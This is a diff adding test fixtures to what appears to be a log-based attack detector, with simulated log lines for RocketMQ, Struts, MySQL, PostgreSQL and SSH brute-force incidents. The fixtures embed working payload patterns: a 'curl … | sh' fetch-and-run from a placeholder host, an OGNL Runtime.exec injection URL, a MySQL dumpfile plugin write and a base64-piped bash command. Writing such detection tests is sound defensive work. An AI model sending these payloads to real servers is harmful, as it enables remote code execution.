@@ -176,6 +176,57 @@ const evidence: readonly Evidence[] = [
     }),
     told: `broker probable activemq ${attacker}`,
   },
+  {
+    name: "RocketMQ below root's home, whose configuration is a command",
+    files: () => ({
+      ...debian,
+      'root/logs/rocketmqlogs/broker.log': `${plain(2)} INFO AdminBrokerThread_1 - updateBrokerConfig, new config: [{rocketmqHome=-c $@|sh . echo curl 192.0.2.66/x|sh;}] client: /${attacker}:5\n`,
+      ...job('root'),
+    }),
+    told: `broker confirmed root ${attacker}`,
+  },
+  {
+    name: 'Struts: OGNL in the path, answered by where it was evaluated to',
+    files: () => ({
+      ...debian,
+      'opt/tomcat/logs/localhost_access_log.2024-01-01.txt': `${attacker} - - [${clf(2)}] "GET /show/%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%27id%27%29%29%7D/x.action HTTP/1.1" 302 -\n`,
+      ...job('www-data'),
+    }),
+    told: `web-exploit confirmed www-data ${attacker}`,
+  },
+  {
+    name: "MySQL's general log: whose statement it was says the line before",
+    files: () => ({
+      ...debian,
+      'var/log/mysql/mysql.log': `${when(2).toISOString().replace('Z', '456Z')}\t   12 Connect\troot@${attacker} on  using TCP/IP\n${when(1.9).toISOString().replace('Z', '456Z')}\t   12 Query\tselect 0x7f into dumpfile '/usr/lib/mysql/plugin/x.so'\n`,
+      ...job('mysql'),
+    }),
+    told: `database-exec confirmed mysql ${attacker}`,
+  },
+  {
+    name: 'PostgreSQL with its usual settings: a program that ran and failed',
+    files: () => ({
+      ...debian,
+      'var/log/postgresql/postgresql-15-main.log': `${plain(2)}.000 UTC [11] ERROR:  program "echo Y3VybA==|base64 -d|bash" failed\n${plain(2)}.000 UTC [11] STATEMENT:  COPY t FROM PROGRAM 'echo Y3VybA==|base64 -d|bash'\n`,
+      ...job('postgres'),
+    }),
+    told: 'database-exec confirmed postgres ',
+  },
+  {
+    name: 'Ubuntu: guesses that rsyslog folded',
+    files: () => ({
+      ...debian,
+      'var/log/auth.log':
+        [1, 2, 3, 4, 5, 6]
+          .map(
+            (n) =>
+              `${bsd(30 - n)} u1 sshd[${n}]: message repeated 5 times: [ Failed password for root from ${attacker} port ${4000 + n} ssh2]\n`,
+          )
+          .join('') + letIn(bsd(5), 'sshd', 'root'),
+      ...job('root'),
+    }),
+    told: `ssh-brute-force confirmed root ${attacker}`,
+  },
 ];
 
 const strange: readonly Evidence[] = [
